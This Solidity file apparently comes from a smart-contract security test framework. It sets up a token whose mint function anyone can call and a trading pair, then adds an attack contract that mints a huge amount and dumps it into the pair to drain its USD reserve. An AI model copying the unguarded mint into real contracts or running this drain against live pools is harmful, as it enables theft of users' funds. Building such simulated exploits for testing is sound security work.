// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// Anybody may mint.
contract OpenToken is Token {
    constructor() Token("OPEN", 18) {}

    function mint(address to, uint256 amount) external override {
        _mint(to, amount);
    }
}

contract UnprotectedMintScene is Scene {
    Token public usd;
    OpenToken public open = new OpenToken();
    Pair public pair;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        _asset(address(open), "OPEN", 18, 1e6);
        pair = Pairs.open(open, usd, 2_000_000e18, 2_000_000e18);
        _protect(address(open));
        _protect(address(pair));
        loot0 = IERC20(address(usd));
        loot1 = IERC20(address(open));
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 500_000e18, address(pair));
        _arm(open, users, 500_000e18, address(pair));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 amount = _amount(dice, 50e18, 5_000e18);
        if (dice >> 200 & 3 == 0) {
            return (address(open), 0, abi.encodeCall(Token.transfer, (address(uint160(dice)), amount / 50)));
        }
        (uint112 r0, uint112 r1,) = pair.getReserves();
        return (address(pair), 0, abi.encodeCall(Pair.trade, (dice % 100 < 90 ? r0 < r1 : r0 >= r1, amount, who)));
    }
}

contract UnprotectedMintAttack is Attack {
    OpenToken private immutable open;
    Pair private immutable pair;

    constructor(UnprotectedMintScene scene) Attack(scene) {
        (open, pair) = (scene.open(), scene.pair());
    }

    function _act(uint256, uint256, uint256 count) internal override {
        uint256 amount = 20_000_000e18 / count;
        open.mint(address(this), amount);
        open.approve(address(pair), amount);
        pair.trade(true, amount, address(this));
    }
}
